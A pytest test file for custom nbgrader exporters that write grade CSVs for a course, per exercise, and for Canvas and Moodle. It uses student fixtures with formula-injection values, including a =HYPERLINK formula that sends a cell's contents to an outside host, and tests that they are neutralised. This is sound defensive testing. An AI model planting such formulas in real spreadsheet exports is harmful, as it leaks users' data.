"""What `nbgrader export` writes: scores that are right, and cells that are only cells."""

import csv
import logging
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from nbgrader.api import Gradebook
from nbgrader.plugins import CsvExportPlugin
from sqlalchemy import event
from traitlets.config import Config

from grading.course import create_course
from grading.exports import CanvasCsv, CourseCsv, ExercisesCsv, MoodleCsv
from grading.exports.table import harmless, number, write_table
from tests.graded import ROOT
from tests.postgres import postgres_server
from tests.submissions.fixture import NAME as FIXTURE
from tests.submissions.fixture import solve, write_source

FIRST, SECOND = "01-first", "02-second"
CODE = {
    "ex2-b-check": 4,
    "ex2-b-hidden": 6,
    "ex10-c-check": 1,
    "ex1-a-check": 4,
    "ex1-a-hidden": 6,
}
QUESTION = "q1-why"
DUE = datetime(2026, 3, 1, 12)
FORMULA = '=HYPERLINK("http://example.org?x="&A1,"click")'


def add_cells(gradebook: Gradebook) -> None:
    for assignment in (SECOND, FIRST):
        gradebook.add_assignment(assignment, duedate=DUE)
        gradebook.add_notebook(assignment, assignment)
        where = (assignment, assignment)
        for name, points in CODE.items():
            gradebook.add_grade_cell(name, *where, max_score=points, cell_type="code")
        gradebook.add_grade_cell(QUESTION, *where, max_score=10, cell_type="markdown")
        gradebook.add_solution_cell(QUESTION, *where)


def hand_in(gradebook: Gradebook, student: str, auto: dict, by_hand: dict, **about) -> None:
    """Put a submission in, scored as autograde and a person would."""
    penalty = about.pop("penalty", None)
    extra = about.pop("extra", {})
    submission = gradebook.add_submission(FIRST, student, **about)
    notebook = submission.notebooks[0]
    notebook.late_submission_penalty = penalty
    for grade in notebook.grades:
        grade.auto_score = auto.get(grade.name)
        grade.manual_score = by_hand.get(grade.name)
        grade.extra_credit = extra.get(grade.name)
        grade.needs_manual_grade = grade.auto_score is None and grade.manual_score is None
    gradebook.db.commit()


def fill(gradebook: Gradebook) -> None:
    add_cells(gradebook)
    zero = dict.fromkeys([*CODE, QUESTION], 0.0)
    add = gradebook.add_student
    add("ada", last_name='Lovelace, "A."', first_name="Ada", email="ada@example.org")
    add("ben", last_name="Absent", first_name="Ben", email="ben@example.org")
    add("cem", last_name="Öztürk", first_name="Cem", email="cem@example.org")
    add("dea", last_name="Smith", first_name="Dea", email="dea@example.org")
    add("eve", last_name="Two\nLines", first_name="Eve", email="eve@example.org")
    add("fay", last_name="Half", first_name="Fay", email="fay@example.org")
    add("ola", last_name="Late", first_name="Ola", email="Ola@Example.org", lms_user_id="77")
    add("zoe", last_name="Zero", first_name="Zoe", email="zoe@example.org")
    add(FORMULA, last_name="@SUM(1)", first_name="x;=1+1", email="-2+3")
    hand_in(gradebook, "ada", CODE, {QUESTION: 8.5}, timestamp="2026-02-28 10:00:00.5 UTC")
    hand_in(gradebook, "cem", CODE, {})
    hand_in(gradebook, "dea", {}, {})
    hand_in(gradebook, "eve", zero | {"ex1-a-check": 0.1, "ex1-a-hidden": 0.2}, {})
    hand_in(gradebook, "fay", CODE | {"ex2-b-hidden": None}, {QUESTION: 5})
    hand_in(gradebook, "zoe", zero, {})
    hand_in(gradebook, FORMULA, zero, {})
    hand_in(
        gradebook,
        "ola",
        zero | {"ex1-a-hidden": 6},
        {"ex1-a-check": 3},
        extra={"ex1-a-hidden": 2},
        penalty=1.005,
        timestamp="2026-03-02 13:00:00 UTC",
        extension=timedelta(days=1),
    )


@contextmanager
def filled(url: str) -> Iterator[Gradebook]:
    with pytest.MonkeyPatch.context() as patch:
        # nbgrader calls `alembic` by name when it makes a gradebook.
        patch.setenv("PATH", str(Path(sys.executable).parent), prepend=":")
        with Gradebook(url) as gradebook:
            fill(gradebook)
            yield gradebook


@pytest.fixture(scope="module")
def gradebook(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Gradebook]:
    with filled(f"sqlite:///{tmp_path_factory.mktemp('gradebook') / 'gradebook.db'}") as gradebook:
        yield gradebook


@pytest.fixture(autouse=True)
def _in_an_empty_course(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)


def export(kind: type, gradebook: Gradebook, to: str = "out.csv", **traits) -> list[list[str]]:
    traits.setdefault("assignment", [FIRST])
    kind(to=to, **traits).export(gradebook)
    return rows_of(to)


def rows_of(path: str) -> list[list[str]]:
    with Path(path).open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def records(rows: list[list[str]]) -> dict[str, dict[str, str]]:
    header, *body = rows
    return {row[header.index("student_id")]: dict(zip(header, row, strict=True)) for row in body}


def write_roster(path: str, rows: list[list[str]], separator: str = ",") -> str:
    with Path(path).open("w", encoding="utf-8-sig", newline="") as file:
        csv.writer(file, delimiter=separator).writerows(rows)
    return path


# --- the course ----------------------------------------------------------------------------


def test_every_status_and_score_is_told_apart(gradebook: Gradebook):
    rows = records(export(CourseCsv, gradebook))
    told = {name: (row["status"], row["raw_score"], row["score"]) for name, row in rows.items()}
    assert told == {
        "ada": ("graded", "29.5", "29.5"),
        "ben": ("not submitted", "", ""),
        "cem": ("needs marking", "21", "21"),
        "dea": ("not graded", "", ""),
        "eve": ("graded", "0.3", "0.3"),
        "fay": ("not graded", "", ""),
        "ola": ("graded", "11", "9.995"),
        "zoe": ("graded", "0", "0"),
        f"'{FORMULA}": ("graded", "0", "0"),
    }


def test_the_columns_are_nbgraders_and_a_status(gradebook: Gradebook):
    header, *_ = export(CourseCsv, gradebook)
    CsvExportPlugin(to="stock.csv", assignment=[FIRST]).export(gradebook)
    stock = Path("stock.csv").read_text(encoding="utf-8").split("\n")[0].split(",")
    assert set(header) == {*stock, "status"}


def test_an_override_extra_credit_a_penalty_and_an_extension_count(gradebook: Gradebook):
    assert records(export(CourseCsv, gradebook))["ola"] == {
        "assignment": FIRST,
        "duedate": "2026-03-02 12:00:00",
        "timestamp": "2026-03-02 13:00:00",
        "student_id": "ola",
        "last_name": "Late",
        "first_name": "Ola",
        "email": "Ola@Example.org",
        "status": "graded",
        "raw_score": "11",
        "late_submission_penalty": "1.005",
        "score": "9.995",
        "max_score": "31",
    }


def test_scores_are_those_of_nbgraders_own_export(gradebook: Gradebook):
    ours = records(export(CourseCsv, gradebook))
    for name in ("ada", "cem", "eve", "ola", "zoe"):
        submission = gradebook.find_submission(FIRST, name)
        score = max(0.0, submission.score - submission.late_submission_penalty)
        assert float(ours[name]["raw_score"]) == pytest.approx(submission.score)
        assert float(ours[name]["score"]) == pytest.approx(score)
        assert float(ours[name]["max_score"]) == submission.assignment.max_score


def test_a_penalty_above_the_score_gives_zero(gradebook: Gradebook):
    notebook = gradebook.find_submission_notebook(FIRST, FIRST, "ola")
    notebook.late_submission_penalty = 100
    try:
        assert records(export(CourseCsv, gradebook))["ola"]["score"] == "0"
    finally:
        gradebook.db.rollback()


def test_a_mark_is_asked_for_again_when_a_marked_answer_was_graded_anew(gradebook: Gradebook):
    grade = gradebook.find_grade(QUESTION, FIRST, FIRST, "ada")
    grade.needs_manual_grade = True
    try:
        row = records(export(CourseCsv, gradebook))["ada"]
    finally:
        gradebook.db.rollback()
    assert (row["status"], row["score"]) == ("needs marking", "29.5")


def test_names_come_back_as_they_were(gradebook: Gradebook):
    rows = records(export(CourseCsv, gradebook))
    assert rows["ada"]["last_name"] == 'Lovelace, "A."'
    assert rows["cem"]["last_name"] == "Öztürk"
    assert rows["eve"]["last_name"] == "Two\nLines"
    assert Path("out.csv").read_bytes().startswith(b"\xef\xbb\xbfassignment,")


def test_rows_are_sorted_by_name_and_assignments_by_date(gradebook: Gradebook):
    rows = export(CourseCsv, gradebook, assignment=[])[1:]
    assert [row[0] for row in rows] == [FIRST] * 9 + [SECOND] * 9
    assert [row[4] for row in rows[:3]] == ["'@SUM(1)", "Absent", "Half"]


def test_who_handed_in_but_was_never_graded_is_told(gradebook: Gradebook, tmp_path: Path):
    (tmp_path / "submitted" / "ben" / FIRST).mkdir(parents=True)
    (tmp_path / "submitted" / "newcomer" / FIRST).mkdir(parents=True)
    (tmp_path / "submitted" / "other" / SECOND).mkdir(parents=True)
    rows = records(export(CourseCsv, gradebook))
    assert {rows[name]["status"] for name in ("ben", "newcomer")} == {"not graded"}
    assert rows["newcomer"]["last_name"] == rows["newcomer"]["score"] == ""
    assert "other" not in rows


def test_folders_may_have_other_names(gradebook: Gradebook, tmp_path: Path):
    (tmp_path / "in [1]" / "ben" / FIRST).mkdir(parents=True)
    config = Config({"CourseDirectory": {"root": str(tmp_path / "in [1]")}})
    config.CourseDirectory.directory_structure = "{student_id}/{assignment_id}"
    rows = records(export(CourseCsv, gradebook, config=config))
    assert rows["ben"]["status"] == "not graded"


# --- filters and files ---------------------------------------------------------------------


def test_filters(gradebook: Gradebook):
    rows = export(CourseCsv, gradebook, student=["zoe", "ada"], assignment=[SECOND])
    assert [(row[0], row[3]) for row in rows[1:]] == [(SECOND, "ada"), (SECOND, "zoe")]


@pytest.mark.parametrize(
    ("traits", "message"),
    [
        ({"assignment": ["01-frist"]}, "--assignment: unknown 01-frist; known are: 01-first"),
        ({"student": ["adda"]}, "--student: unknown adda; known are: ada, "),
    ],
)
def test_an_unknown_name_is_an_error_that_lists_the_known_ones(
    gradebook: Gradebook, traits: dict, message: str
):
    with pytest.raises(SystemExit, match=message):
        export(CourseCsv, gradebook, **traits)
    assert not Path("out.csv").exists()


def test_a_file_for_each_assignment_needs_a_name_for_each(gradebook: Gradebook):
    with pytest.raises(SystemExit, match=r"expected \{assignment\} in the name"):
        ExercisesCsv(to="out.csv").export(gradebook)
    ExercisesCsv(to="below/{assignment}.csv").export(gradebook)
    assert sorted(path.name for path in Path("below").iterdir()) == [
        f"{FIRST}.csv",
        f"{SECOND}.csv",
    ]


def test_the_default_names(gradebook: Gradebook, tmp_path: Path):
    CourseCsv().export(gradebook)
    ExercisesCsv().export(gradebook)
    assert {path.name for path in tmp_path.iterdir()} == {
        "grades.csv",
        f"exercises-{FIRST}.csv",
        f"exercises-{SECOND}.csv",
    }


def test_a_broken_export_leaves_the_old_file(tmp_path: Path):
    path = tmp_path / "out.csv"
    path.write_text("old")

    def rows():
        yield ["new"]
        raise RuntimeError("broken")

    with pytest.raises(RuntimeError, match="broken"):
        write_table(path, rows(), 2)
    assert path.read_text() == "old"
    assert list(tmp_path.iterdir()) == [path]


def test_a_folder_is_no_file(gradebook: Gradebook, tmp_path: Path):
    with pytest.raises(SystemExit, match="--to: expected the name of a file"):
        CourseCsv(to=str(tmp_path)).export(gradebook)
    (tmp_path / "file").touch()
    with pytest.raises(SystemExit, match="--to: cannot write file/out"):
        CourseCsv(to="file/out.csv").export(gradebook)


def test_few_queries(gradebook: Gradebook):
    queries = []
    listen = (gradebook.engine, "before_cursor_execute", lambda *about: queries.append(about[2]))
    event.listen(*listen)
    try:
        export(CourseCsv, gradebook)
    finally:
        event.remove(*listen)
    assert len(queries) <= 10


# --- cells ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (FORMULA, f"'{FORMULA}"),
        ("+49 30", "'+49 30"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        (" =1", "' =1"),
        ("\t=1", "'\t'=1"),
        ("＝1", "'＝1"),
        ("x;=1+1", "x;'=1+1"),
        ("x; =1+1", "x;' =1+1"),
        ("first\n=1", "first\n'=1"),
        ("Anne-Marie", "Anne-Marie"),
        ("a@b.org", "a@b.org"),
        ("x = 1", "x = 1"),
        ("", ""),
    ],
)
def test_no_text_becomes_a_formula(text: str, shown: str):
    assert harmless(text) == shown


@pytest.mark.parametrize(
    ("value", "places", "text"),
    [
        (2.675, 2, "2.68"),
        (0.1 + 0.2, 4, "0.3"),
        (0.005 + 0.03, 2, "0.04"),
        (0.125, 2, "0.13"),
        (100.0, 2, "100"),
        (0, 2, "0"),
        (-1.5, 2, "-1.5"),
        (1e-7, 2, "0"),
        (1e20, 2, "100000000000000000000"),
    ],
)
def test_numbers_are_rounded_and_stay_numbers(value: float, places: int, text: str):
    assert number(value, places) == text


# --- exercises -----------------------------------------------------------------------------


def test_a_column_for_each_exercise(gradebook: Gradebook):
    header, *body = export(ExercisesCsv, gradebook, student=["ada", "ben", "fay", "ola"])
    assert header == [
        "student_id",
        "last_name",
        "first_name",
        "status",
        "ex1 visible (of 4)",
        "ex1 hidden (of 6)",
        "ex2 visible (of 4)",
        "ex2 hidden (of 6)",
        "ex10 visible (of 1)",
        "q1 (of 10)",
        "raw_score",
        "late_submission_penalty",
        "score (of 31)",
    ]
    assert {row[0]: row[3:] for row in body} == {
        "ada": ["graded", "4", "6", "4", "6", "1", "8.5", "29.5", "0", "29.5"],
        "ben": ["not submitted"] + [""] * 9,
        "fay": ["not graded", "4", "6", "4", "", "1", "5", "", "", ""],
        "ola": ["graded", "3", "8", "0", "0", "0", "0", "11", "1.005", "9.995"],
    }


# --- Canvas --------------------------------------------------------------------------------

CANVAS = [
    ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "01-first (901)", "Final Score"],
    ["    Points Possible", "", "", "", "", "31.00", "(read only)"],
    ["Lovelace, Ada", "11", "s-11", "ADA@example.org", "A", "3", "3"],
    ["Late, Ola", "77", "s-77", "ola77", "B", "", ""],
    ["Zero, Zoe", "12", "zoe", "z", "B", "7", ""],
    ["Lines, Eve", "13", "s-13", "eve", "", "", ""],
    ["=Formula", "14", FORMULA, "f", "B", "", ""],
    ["Absent, Ben", "15", "ben", "ben", "B", "9", ""],
    ["Student, Test", "16", "", "secret", "B", "", ""],
]


def canvas(gradebook: Gradebook, rows: list[list[str]] = CANVAS, **traits) -> list[list[str]]:
    return export(CanvasCsv, gradebook, roster=write_roster("canvas.csv", rows), **traits)


def test_canvas_columns_are_exactly_its_own(gradebook: Gradebook):
    assert canvas(gradebook) == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "01-first (901)"],
        ["    Points Possible", "", "", "", "", "31"],
        ["'=Formula", "14", f"'{FORMULA}", "f", "B", "0"],
        ["Late, Ola", "77", "s-77", "ola77", "B", "10"],
        ["Lovelace, Ada", "11", "s-11", "ADA@example.org", "A", "29.5"],
        ["Lines, Eve", "13", "s-13", "eve", "", "0.3"],
        ["Zero, Zoe", "12", "zoe", "z", "B", "0"],
    ]
    assert Path("out.csv").read_bytes().startswith(b"Student,ID,")


def test_canvas_leaves_out_who_has_no_score(gradebook: Gradebook, caplog):
    with caplog.at_level(logging.INFO):
        kept = {row[1] for row in canvas(gradebook)}
    assert "15" not in kept
    told = [r.getMessage() for r in caplog.records if "left out" in r.getMessage()]
    assert told == [
        f"{FIRST}: left out, not submitted: 1",
        f"{FIRST}: left out, not graded: 2",
        f"{FIRST}: left out, needs marking: 1",
    ]


def test_scores_without_all_marks_go_out_when_asked_for(gradebook: Gradebook):
    rows = [*CANVAS, ["Öztürk, Cem", "17", "cem", "", "", "", ""]]
    assert canvas(gradebook, rows, include_unmarked=True)[-1][-1] == "21"


def test_canvas_has_a_line_for_what_it_does_not_know(gradebook: Gradebook, caplog):
    assert canvas(gradebook, assignment=[SECOND])[0][-1] == SECOND
    assert "Canvas will make a new assignment" in caplog.text


def test_a_canvas_title_can_be_set(gradebook: Gradebook):
    assert canvas(gradebook, columns={FIRST: "Final Score"[:5]})[0][-1] == "Final"
    rows = [[*CANVAS[0][:5], "HW (1)", "HW (2)"], *CANVAS[1:]]
    with pytest.raises(SystemExit, match=r"set the one of HW \(1\), HW \(2\) that is '01-first'"):
        canvas(gradebook, rows, columns={FIRST: "HW"})
    assert canvas(gradebook, rows, columns={FIRST: "HW (2)"})[0][-1] == "HW (2)"


def test_canvas_passes_over_titles_like_its_own(gradebook: Gradebook):
    with pytest.raises(SystemExit, match="Canvas takes 'My Final Score' for one of its own"):
        canvas(gradebook, columns={FIRST: "My Final Score"})


def test_other_points_in_canvas_are_told(gradebook: Gradebook, caplog):
    canvas(gradebook)
    assert "points are possible" not in caplog.text
    rows = [CANVAS[0], [*CANVAS[1][:5], "10,00", ""], *CANVAS[2:]]
    canvas(gradebook, rows)
    assert "01-first (901): 10.00 points are possible in Canvas, 31 in the gradebook" in caplog.text


def test_canvas_needs_its_own_export(gradebook: Gradebook):
    with pytest.raises(SystemExit, match=r"CanvasCsv\.roster: expected the file .* from Canvas"):
        export(CanvasCsv, gradebook)
    with pytest.raises(SystemExit, match=r"columns ID, Section; canvas\.csv lacks Section and has"):
        canvas(gradebook, [["Student", "ID"]])
    with pytest.raises(SystemExit, match=r"expected a CSV file in UTF-8, got 'missing\.csv'"):
        export(CanvasCsv, gradebook, roster="missing.csv")


def test_who_is_not_in_the_list_is_named(gradebook: Gradebook, caplog):
    without = [row for row in CANVAS if row[1] not in ("12", "13")]
    with pytest.raises(SystemExit, match=r"canvas\.csv does not have eve, zoe\. Correct"):
        canvas(gradebook, without)
    assert not Path("out.csv").exists()
    rows = canvas(gradebook, without, leave_out_unknown=True)
    assert [row[1] for row in rows[2:]] == ["14", "77", "11"]
    assert "Left out, since canvas.csv does not have them: eve, zoe" in caplog.text


def test_a_score_never_goes_to_one_of_several(gradebook: Gradebook):
    twice = [*CANVAS, ["Other, Zoe", "99", "", "ZOE", "", "", ""]]
    with pytest.raises(SystemExit, match="several rows fit each of zoe"):
        canvas(gradebook, twice)
    shared = [row for row in CANVAS if row[1] not in ("12", "13")]
    shared.append(["Both", "98", "zoe", "eve", "", "", ""])
    with pytest.raises(SystemExit, match="one row fits several students: eve and zoe"):
        canvas(gradebook, shared)


# --- Moodle --------------------------------------------------------------------------------

MOODLE = [
    ["Vorname", "Nachname", "E-Mail-Adresse", "ID-Nummer"],
    ["Ada", "Lovelace", "Ada@Example.org", "1"],
    ["Ola", "Late", "ola@example.org", "2"],
    ["Zoe", "Zero", "zoe@example.org", "3"],
    ["Eve", "Lines", "eve@example.org", "4"],
]
GOOD = ["ada", "ola", "zoe", "eve", "ben", "cem", "dea", "fay"]


def test_moodle_columns_are_exactly_what_it_maps(gradebook: Gradebook):
    assert export(MoodleCsv, gradebook, student=GOOD) == [
        ["First name", "Last name", "Email address", FIRST],
        ["Ola", "Late", "Ola@Example.org", "10"],
        ["Ada", 'Lovelace, "A."', "ada@example.org", "29.5"],
        ["Eve", "Two Lines", "eve@example.org", "0.3"],
        ["Zoe", "Zero", "zoe@example.org", "0"],
    ]
    assert Path("out.csv").read_bytes().startswith(b"First name,")


def test_moodle_spelling_of_addresses_is_kept(gradebook: Gradebook):
    rows = export(
        MoodleCsv,
        gradebook,
        student=GOOD,
        roster=write_roster("moodle.csv", MOODLE, ";"),
        identifier="E-Mail-Adresse",
        columns={FIRST: "Assignment: First"},
    )
    assert rows == [
        ["Vorname", "Nachname", "E-Mail-Adresse", "Assignment: First"],
        ["Ola", "Late", "ola@example.org", "10"],
        ["Ada", "Lovelace", "Ada@Example.org", "29.5"],
        ["Eve", "Lines", "eve@example.org", "0.3"],
        ["Zoe", "Zero", "zoe@example.org", "0"],
    ]


def test_moodle_can_identify_by_id(gradebook: Gradebook):
    rows = export(MoodleCsv, gradebook, identifier="ID number", student=["ada"])
    assert rows[1] == ["Ada", 'Lovelace, "A."', "ada", "29.5"]


def test_moodle_gets_no_row_without_a_usable_identifier(gradebook: Gradebook):
    with pytest.raises(SystemExit, match=r"as 'Email address', does not have =HYPERLINK"):
        export(MoodleCsv, gradebook)
    gradebook.find_student("zoe").email = None
    try:
        with pytest.raises(SystemExit, match=r"as 'Email address', does not have zoe\."):
            export(MoodleCsv, gradebook, student=GOOD)
    finally:
        gradebook.db.rollback()


def test_moodle_gets_no_address_twice(gradebook: Gradebook):
    gradebook.find_student("zoe").email = "ada@example.org"
    try:
        with pytest.raises(SystemExit, match="Email address: the same for ada and zoe"):
            export(MoodleCsv, gradebook, student=GOOD)
    finally:
        gradebook.db.rollback()


def test_moodle_may_refuse_more_than_a_hundred(gradebook: Gradebook, caplog):
    gradebook.find_grade(QUESTION, FIRST, FIRST, "ada").extra_credit = 80
    try:
        export(MoodleCsv, gradebook, student=GOOD)
    finally:
        gradebook.db.rollback()
    assert "Moodle may refuse scores above 100: ada" in caplog.text


# --- another database, and the real command -------------------------------------------------


@pytest.mark.slow
def test_postgresql_gives_the_same_files(gradebook: Gradebook):
    with postgres_server() as server, filled(server.new_database()) as other:
        for kind in (CourseCsv, ExercisesCsv):
            assert export(kind, other, to="p.csv") == export(kind, gradebook, to="s.csv")
            assert Path("p.csv").read_bytes() == Path("s.csv").read_bytes()


@pytest.mark.slow
def test_the_command_with_this_courses_settings(tmp_path: Path):
    write_source(tmp_path / "source")
    course = create_course(tmp_path / "class", tmp_path / "source", ROOT / "nbgrader_config.py")
    course.put(FIXTURE, "ada", solve(course.generate(FIXTURE)))

    def nbgrader(*arguments: str) -> subprocess.CompletedProcess[str]:
        command = [sys.executable, "-m", "nbgrader", "export", *arguments]
        return subprocess.run(command, cwd=course.root, capture_output=True, text=True, check=False)

    done = nbgrader("--exporter=grading.exports.CourseCsv", "--to=out/grades.csv")
    assert done.returncode == 0, done.stderr
    row = records(rows_of(course.root / "out" / "grades.csv"))["ada"]
    assert (row["status"], row["score"], row["max_score"]) == ("not graded", "", "40")

    done = nbgrader(
        "--exporter=grading.exports.MoodleCsv",
        "--MoodleCsv.identifier=Username",
        f"--assignment={FIXTURE}",
    )
    assert done.returncode == 0, done.stderr
    assert rows_of(course.root / f"moodle-{FIXTURE}.csv") == [
        ["First name", "Last name", "Username", FIXTURE]
    ]

    done = nbgrader("--exporter=grading.exports.ExercisesCsv", "--assignment=nothing")
    assert done.returncode == 1
    assert f"--assignment: unknown nothing; known are: {FIXTURE}" in done.stderr
    assert "Traceback" not in done.stderr
